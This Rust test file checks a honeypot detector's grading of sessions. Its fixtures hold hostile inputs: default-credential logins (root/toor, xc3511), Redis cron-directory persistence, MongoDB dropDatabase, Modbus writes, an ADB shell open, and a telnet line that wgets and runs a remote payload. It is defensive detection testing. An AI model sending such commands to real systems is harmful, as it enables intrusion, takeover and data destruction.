//! What was said to each service, judged as the node judges it: a session's findings must earn the grade they deserve.
#![expect(clippy::unwrap_used, reason = "a test fails by panicking")]

use honeymesh_detect::Detector;
use honeymesh_trap_proto::{Definition, Findings, Flow, Persona, Service};
use honeymesh_types::{Grade, Now, SessionId, Transport, Visit, WallTime};
use std::collections::BTreeMap;

/// Everything one stranger said to a service in its usual way, as one report.
fn visit(service: &str, said: &[u8]) -> Visit {
    let definition = Definition { service: service.into(), ..Definition::default() };
    let mut session = Service::define(&definition, &Persona::of([7; 32])).unwrap().session(7);
    let mut all = Findings::default();
    let mut take = |findings: Findings| {
        all.signs |= findings.signs;
        all.fields.extend(findings.fields);
    };
    let mut answer = Vec::new();
    let mut flow = session.open(&mut answer);
    let mut rest = said;
    while !rest.is_empty() && flow != Flow::Close {
        let step = session.receive(rest, WallTime(1_795_341_600_000_000), &mut answer);
        rest = &rest[step.taken..];
        flow = step.flow;
        take(session.findings());
    }
    session.end();
    take(session.findings());
    Visit {
        at: Now::default(),
        session: SessionId(1),
        trap: service.into(),
        service: service.into(),
        source: "203.0.113.7:4711".parse().unwrap(),
        local: "192.0.2.1:99".parse().unwrap(),
        transport: Transport::Tcp,
        payload: said.to_vec(),
        bytes: said.len() as u64,
        signs: all.signs,
        fields: all.fields,
        marks: None,
    }
}

/// Whoever connects to a script says what its rules want; to services over UDP nobody can connect.
fn is_spoken_over_tcp(service: &str) -> bool {
    let definition = Definition { service: service.into(), ..Definition::default() };
    service != "script" && Service::define(&definition, &Persona::of([7; 32])).unwrap().transports().contains(&Transport::Tcp)
}

fn judged(service: &str, said: &[u8]) -> (Grade, u8) {
    let verdict = Detector::new().judge_visit(&visit(service, said));
    (verdict.grade, verdict.score)
}

/// The login packet of a MySQL client, with a scramble of twenty bytes.
const MYSQL_LOGIN: &[u8] = b"\x3b\0\0\x01\0\x82\0\0\0\0\0\0\x21\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0root\0\
    \x14abcdefghijklmnopqrst\0";
const POSTGRESQL_LOGIN: &[u8] = b"\0\0\0\x13\0\x03\0\0user\0root\0\0p\0\0\0\x09toor\0";

#[test]
fn what_was_said_to_a_service_gets_the_grade_it_deserves() {
    let credentials: [(&str, &[u8]); 9] = [
        ("ftp", b"USER root\r\nPASS toor\r\n"),
        ("telnet", b"root\r\nxc3511\r\n"),
        ("smtp", b"EHLO a\r\nAUTH PLAIN AHJvb3QAdG9vcg==\r\n"),
        ("pop3", b"USER root\r\nPASS toor\r\n"),
        ("imap", b"a LOGIN root toor\r\n"),
        ("redis", b"AUTH hunter2\r\n"),
        ("mysql", MYSQL_LOGIN),
        ("postgresql", POSTGRESQL_LOGIN),
        ("vnc", b"RFB 003.008\n\x02abcdefghijklmnop"),
    ];
    for (service, said) in credentials {
        assert_eq!(judged(service, said), (Grade::Hostile, 40), "{service}: credentials");
    }
    let abuse: [(&str, &[u8], u8); 5] = [
        ("smtp", b"MAIL FROM:<a@b>\r\nRCPT TO:<c@d>\r\nDATA\r\nbuy\r\n.\r\n", 50),
        ("memcached", b"flush_all\r\n", 50),
        ("redis", b"EVAL 'return 1' 0\r\n", 50),
        ("redis", b"CONFIG SET dir /var/spool/cron\r\n", 90),
        ("telnet", b"a\r\nb\r\na\r\nb\r\ncd /tmp; wget http://198.51.100.9/i; sh i\r\n", 100),
    ];
    for (service, said, least) in abuse {
        let (grade, score) = judged(service, said);
        assert!(grade == Grade::Hostile && score >= least, "{service}: {grade:?} {score}");
    }
}

#[test]
fn a_look_around_is_a_payload_and_a_connection_a_handshake() {
    let looks: [(&str, &[u8]); 7] = [
        ("ftp", b"USER anonymous\r\nPASS a@b\r\nPWD\r\nQUIT\r\n"),
        ("smtp", b"EHLO a\r\nQUIT\r\n"),
        ("pop3", b"CAPA\r\nQUIT\r\n"),
        ("imap", b"a CAPABILITY\r\n"),
        ("redis", b"PING\r\nINFO\r\n"),
        ("memcached", b"version\r\nstats\r\n"),
        ("vnc", b"RFB 003.008\n"),
    ];
    for (service, said) in looks {
        assert_eq!(judged(service, said), (Grade::Payload, 10), "{service}");
    }
    let silent: BTreeMap<_, _> =
        Service::NAMES.iter().copied().filter(|name| is_spoken_over_tcp(name)).map(|name| (name, judged(name, b""))).collect();
    assert!(silent.values().all(|judged| *judged == (Grade::Handshake, 5)), "{silent:?}");
}

/// `OP_MSG` with a command of one element, `name: 1`.
fn mongodb(name: &str) -> Vec<u8> {
    let document = [&[0x10][..], name.as_bytes(), &[0, 1, 0, 0, 0]].concat();
    let document = [&u32::try_from(document.len() + 5).unwrap().to_le_bytes()[..], &document, &[0]].concat();
    let length = u32::try_from(16 + 5 + document.len()).unwrap();
    [&length.to_le_bytes()[..], &[1, 0, 0, 0, 0, 0, 0, 0, 0xdd, 7, 0, 0, 0, 0, 0, 0, 0], &document].concat()
}

#[test]
fn packets_of_windows_services_get_the_grade_they_deserve() {
    let name = |text: &[u8]| [text, &vec![0; 30 - text.len()], &[u8::try_from(text.len()).unwrap()]].concat();
    let old_login = [&b"\x02\x01\0\x65\0\0\0\0"[..], &name(b"pc"), &name(b"sa"), &name(b"letmein")].concat();
    let said: [(&str, &[u8], Grade); 10] = [
        ("mssql", b"\x12\x01\0\x0f\0\0\0\0\x01\0\x06\0\x01\xff\x02", Grade::Payload),
        ("mssql", &old_login, Grade::Hostile),
        (
            "smb",
            b"\0\0\0\x2f\xffSMBr\0\0\0\0\x18\x01\x28\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x0c\0\x02NT LM 0.12\0",
            Grade::Payload,
        ),
        ("rdp", b"\x03\0\0\x0b\x06\xe0\0\0\0\0\0", Grade::Payload),
        ("ldap", b"\x30\x0c\x02\x01\x01\x60\x07\x02\x01\x03\x04\0\x80\0", Grade::Payload),
        ("ldap", b"\x30\x11\x02\x01\x01\x60\x0c\x02\x01\x03\x04\x04cn=a\x80\x01x", Grade::Hostile),
        ("ldap", b"\x30\x09\x02\x01\x01\x4a\x04dc=a", Grade::Hostile),
        ("mongodb", &mongodb("ping"), Grade::Payload),
        ("mongodb", &mongodb("listDatabases"), Grade::Payload),
        ("mongodb", &mongodb("dropDatabase"), Grade::Hostile),
    ];
    for (service, said, grade) in said {
        assert_eq!(judged(service, said).0, grade, "{service}: {said:?}");
    }
}

#[test]
fn what_was_said_to_the_things_of_a_house_and_a_factory_gets_the_grade_it_deserves() {
    const MQTT: &[u8] = b"\x10\x1b\0\x04MQTT\x04\xc2\0\x3c\0\x03bot\0\x04root\0\x04toor";
    const MQTT_ANYBODY: &[u8] = b"\x10\x0f\0\x04MQTT\x04\x02\0\x3c\0\x03bot";
    const ADB: &[u8] = b"CNXN\0\0\0\x01\0\x10\0\0\x07\0\0\0\x32\x02\0\0\xbc\xb1\xa7\xb1host::\0";
    const SHELL: &[u8] = b"OPEN\x01\0\0\0\0\0\0\0\x09\0\0\0\x2d\x03\0\0\xb0\xaf\xba\xb1shell:id\0";
    let table: [(&str, Vec<u8>, Grade); 8] = [
        ("mqtt", MQTT.to_vec(), Grade::Hostile),
        ("mqtt", MQTT_ANYBODY.to_vec(), Grade::Payload),
        ("mqtt", [MQTT_ANYBODY, b"\x82\x06\0\x02\0\x01#\0"].concat(), Grade::Payload),
        ("mqtt", [MQTT_ANYBODY, b"\x30\x05\0\x01aon"].concat(), Grade::Hostile),
        ("modbus", b"\0\x01\0\0\0\x06\x01\x03\0\0\0\x01".to_vec(), Grade::Payload),
        ("modbus", b"\0\x01\0\0\0\x06\x01\x06\0\0\0\x01".to_vec(), Grade::Hostile),
        ("adb", ADB.to_vec(), Grade::Payload),
        ("adb", [ADB, SHELL].concat(), Grade::Hostile),
    ];
    for (service, said, grade) in table {
        assert_eq!(judged(service, &said).0, grade, "{service}: {said:?}");
        assert_eq!(judged("any", &said).0, grade, "the same where nobody expects it: {service}");
    }
}
